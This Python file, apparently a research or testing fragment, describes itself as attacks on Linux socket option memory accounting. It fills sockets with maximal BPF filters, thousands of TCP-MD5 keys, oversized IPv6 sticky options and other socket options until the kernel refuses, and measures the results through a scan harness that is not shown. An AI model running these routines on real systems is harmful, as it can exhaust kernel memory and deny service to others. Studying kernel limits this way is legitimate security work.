"""Attacks on the memory that a socket's options count against."""

SO_ATTACH_FILTER = 26
TCP_MD5SIG, TCP_MD5SIG_EXT, MD5_PREFIX = 14, 32, 1
IPV6_RTHDR, IPV6_2292PKTOPTIONS, IPV6_2292RTHDR = 57, 6, 5
IP_OPTIONS = 4
NO_ROOM = (errno.ENOMEM, errno.ENOBUFS)


def classic_filter(loads, returns):
    """Costs as much as its instructions are; loads and returns do not cost the same once they are translated."""
    code = [(0x28, 0)] * loads + [(0x00, 0)] * returns + [(0x06, 0xFFFFFFFF)]
    text = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", what, 0, 0, with_) for what, with_ in code))
    return struct.pack("HxxxxxxQ", len(code), ctypes.addressof(text)), text


def attach(made, program, refused):
    """The kernel refuses what is beyond its limit of compiled filters, and what there is no option memory for."""
    try:
        made.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, program[0])
    except OSError as error:
        refused[errno.errorcode[error.errno]] += 1


def accepts(program):
    with socket.socket() as tried:
        try:
            tried.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, program[0])
            return True
        except OSError:
            return False


def most_accepted(accepted, high):
    low, best = 1, 0
    while low <= high:
        middle = (low + high) // 2
        if accepted(middle):
            best, low = middle, middle + 1
        else:
            high = middle - 1
    return best


def with_classic_filter(dead, seconds):
    loads = most_accepted(lambda count: accepts(classic_filter(count, 0)), 4000)
    returns = most_accepted(lambda count: accepts(classic_filter(loads, count)), 4090 - loads)
    program = classic_filter(loads, returns)
    refused = collections.Counter()
    result = scan(dead, seconds, lambda made: attach(made, program, refused))
    return result | {"instructions": [loads, returns], "refused": refused}


def with_filters_in_turn(dead, seconds):
    """Each takes the place of the last, and counts before that is given back."""
    programs = [classic_filter(loads, 0) for loads in (1, 500, 1000, 1, 1000)]
    refused = collections.Counter()

    def fill(made):
        for program in programs * 4:
            attach(made, program, refused)

    return scan(dead, seconds, fill) | {"refused": refused}


def md5_key(number):
    peer = struct.pack("!BBH4s", 0, 0, 0, struct.pack("!I", 0x0A000000 | number))
    peer = struct.pack("H", socket.AF_INET) + peer[2:]
    return peer.ljust(128, b"\0") + struct.pack("BBHI", MD5_PREFIX, 32, 3, 0) + b"key".ljust(80, b"\0")


def fill_with_keys(made):
    """TCP-MD5 keys of peers that it never calls; how many there was room for."""
    for number in range(10_000):
        try:
            made.setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG_EXT, md5_key(number))
        except OSError as error:
            if error.errno in NO_ROOM:
                return number
            raise
    return 10_000


def with_keys(dead, seconds):
    taken = []
    return scan(dead, seconds, lambda made: taken.append(fill_with_keys(made))) | {"keys": max(taken)}


def routing_header(via):
    return struct.pack("BBBBI", 0, 2, 2, 1, 0) + socket.inet_pton(socket.AF_INET6, via)


def with_sticky_options(dead, seconds):
    """IPV6_2292PKTOPTIONS with a control message as long as may be, then keys; a plain user may set routing headers alone."""
    refused = collections.Counter()

    def fill(made):
        control = struct.pack("QII", 16 + 24, socket.IPPROTO_IPV6, IPV6_2292RTHDR) + routing_header("2001:db8::1")
        unknown = struct.pack("QII", 60_000, socket.SOL_SOCKET, 0).ljust(60_000, b"\0")
        for level, option, value in (
            (socket.IPPROTO_IPV6, IPV6_2292PKTOPTIONS, unknown),
            (socket.IPPROTO_IPV6, IPV6_2292PKTOPTIONS, control),
            (socket.IPPROTO_IPV6, socket.IPV6_HOPOPTS, bytes([0, 0, 1, 4, 0, 0, 0, 0])),
        ):
            try:
                made.setsockopt(level, option, value)
            except OSError as error:
                refused[errno.errorcode[error.errno]] += 1
        # Without the header, else the packets would go to another address.
        made.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, b"")

        for number in range(10_000):
            key = struct.pack("H2xI16sI", socket.AF_INET6, 0, struct.pack("!QQ", 0xFD00 << 48, number), 0).ljust(128, b"\0")
            key += struct.pack("BBHI", MD5_PREFIX, 128, 3, 0) + b"key".ljust(80, b"\0")
            try:
                made.setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG_EXT, key)
            except OSError as error:
                if error.errno in NO_ROOM:
                    break
                raise

    return scan(dead, seconds, fill) | {"refused": refused}


def with_whatever_is_accepted(dead, seconds):
    """Options of IP, memberships, protocols above TCP: each refused or taken, and then keys."""
    refused = collections.Counter()
    membership = socket.inet_aton("224.0.0.251") + socket.inet_aton("0.0.0.0")
    source = socket.inet_aton("232.1.1.1") + socket.inet_aton("0.0.0.0") + socket.inet_aton("198.18.0.1")
    small = classic_filter(100, 0)
    options = [
        (socket.IPPROTO_IP, IP_OPTIONS, bytes([1] * 39 + [0])),
        (socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership),
        (socket.IPPROTO_IP, 39, source),  # IP_ADD_SOURCE_MEMBERSHIP
        (socket.IPPROTO_TCP, 31, b"tls\0"),  # TCP_ULP
        (socket.IPPROTO_TCP, 31, b"mptcp\0"),
        (socket.SOL_SOCKET, 60, struct.pack("i", 1)),  # SO_ZEROCOPY
    ]

    def fill(made):
        for level, option, value in options:
            try:
                made.setsockopt(level, option, value)
            except OSError as error:
                refused[errno.errorcode[error.errno]] += 1
        attach(made, small, refused)
        fill_with_keys(made)

    return scan(dead, seconds, fill) | {"refused": refused}
